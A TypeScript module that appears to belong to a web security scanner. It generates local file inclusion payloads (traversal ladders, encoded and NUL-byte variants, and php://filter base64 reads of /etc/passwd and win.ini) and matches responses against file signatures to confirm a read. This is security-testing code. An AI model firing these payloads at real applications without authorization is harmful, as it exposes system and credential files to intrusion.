// Payloads and file signatures for LFI (and the file-reading half of XXE). A signature is text only
// the real file contains; the payloads never contain it, so a reflected payload cannot match.

export interface FileSignature {
  file: string;
  /** Must match for the file to count as read. */
  pattern: RegExp;
}

export const FILE_SIGNATURES: readonly FileSignature[] = [
  // a passwd line for root: name, password placeholder, uid 0, gid 0
  { file: '/etc/passwd', pattern: /root:[^:\r\n<>]{0,40}:0:0:[^\r\n<>]{0,200}/ },
  // win.ini carries both sections on every Windows since 3.1
  { file: 'C:\\Windows\\win.ini', pattern: /\[fonts\][\s\S]{0,400}?\[extensions\]|\[extensions\][\s\S]{0,400}?\[fonts\]/i },
];

export interface SignatureMatch {
  file: string;
  matched: string;
}

export function findSignature(text: string): SignatureMatch | null {
  for (const s of FILE_SIGNATURES) {
    const m = s.pattern.exec(text);
    if (m) return { file: s.file, matched: m[0].slice(0, 200) };
  }
  return null;
}

/** Base64 runs long enough to hold a file, decoded; where a php://filter answer would be. */
export function decodedBase64Runs(text: string): { run: string; text: string }[] {
  const out: { run: string; text: string }[] = [];
  const re = /[A-Za-z0-9+/]{40,}={0,2}/g;
  for (let m = re.exec(text); m !== null && out.length < 20; m = re.exec(text)) {
    out.push({ run: m[0], text: Buffer.from(m[0], 'base64').toString('latin1') });
  }
  return out;
}

export interface LfiPayload {
  value: string;
  technique: string;
  /** The answer is base64 of the file (php://filter). */
  base64?: boolean;
}

const UP = '../';

/** Parameters whose name or value says "a file": they get every variant, others the short list. */
export function looksFileLike(name: string, value: string): boolean {
  if (/(^|[_\-.])(file|filename|path|page|doc|document|template|tpl|include|inc|view|lang|language|dir|folder|load|read|show|download|name|style|layout|module|content|conf|config|item|cat)s?($|[_\-.\]])/i.test(name)) return true;
  return /^[\w\-./\\]+\.[a-z0-9]{1,5}$/i.test(value) || value.includes('/') || value.includes('\\');
}

function extensionOf(value: string): string | null {
  const m = /\.([a-z0-9]{1,5})$/i.exec(value);
  return m ? `.${m[1]}` : null;
}

/** Ordered cheapest and most common first; the first that proves a read ends the parameter. */
export function lfiPayloads(original: string, fileLike: boolean): LfiPayload[] {
  const deep = UP.repeat(10);
  const list: LfiPayload[] = [
    { value: '/etc/passwd', technique: 'absolute path' },
    { value: `${deep}etc/passwd`, technique: 'traversal ../ x10' },
    { value: `${'....//'.repeat(10)}etc/passwd`, technique: 'traversal ....// (filter that strips ../ once)' },
    { value: 'php://filter/convert.base64-encode/resource=/etc/passwd', technique: 'PHP wrapper php://filter base64', base64: true },
  ];
  if (!fileLike) return list;
  const ext = extensionOf(original);
  list.push(
    // the insertion point encodes once more: the application sees these escapes and decodes them itself
    { value: `${'..%2f'.repeat(10)}etc%2fpasswd`, technique: 'traversal ..%2f (decoded by the application)' },
    { value: `${'%2e%2e%2f'.repeat(10)}etc%2fpasswd`, technique: 'traversal %2e%2e%2f (double URL-encoded)' },
    { value: `${deep}etc/passwd\u0000`, technique: 'traversal with NUL byte' },
    { value: 'C:\\Windows\\win.ini', technique: 'absolute Windows path' },
    { value: `${'..\\'.repeat(10)}Windows\\win.ini`, technique: 'traversal ..\\ x10 (Windows)' },
  );
  if (ext) list.push({ value: `${deep}etc/passwd\u0000${ext}`, technique: `traversal with NUL byte and ${ext}` });
  // shallower ladders for applications that do not clamp at the root (prefix-joined relative paths)
  for (let d = 1; d <= 9; d++) list.push({ value: `${UP.repeat(d)}etc/passwd`, technique: `traversal ../ x${d}` });
  return list;
}
